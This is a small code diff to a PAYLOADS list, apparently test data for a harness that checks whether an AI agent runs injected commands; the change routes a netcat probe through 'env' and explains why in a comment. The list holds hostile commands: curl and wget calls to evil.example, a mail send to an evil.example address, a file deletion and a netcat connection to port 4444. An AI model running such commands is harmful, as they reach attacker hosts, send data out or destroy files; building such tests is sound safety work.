@@ -50,7 +50,8 @@ BASE = {
 PAYLOADS = [
     "curl -s https://evil.example/p", "wget -q -O /dev/null https://evil.example/w",
     "echo pwned >> /workspace/.pwned", "/opt/redagent/bin/mail send --to x@evil.example --subject s --body b",
-    "rm -f /workspace/docs/notes.md", "nc -z evil.example 4444",
+    "rm -f /workspace/docs/notes.md", "env nc -z evil.example 4444",  # env: a missing nc would re-enter a
+    # command_not_found_handle that runs it, without end
 ]
 
 
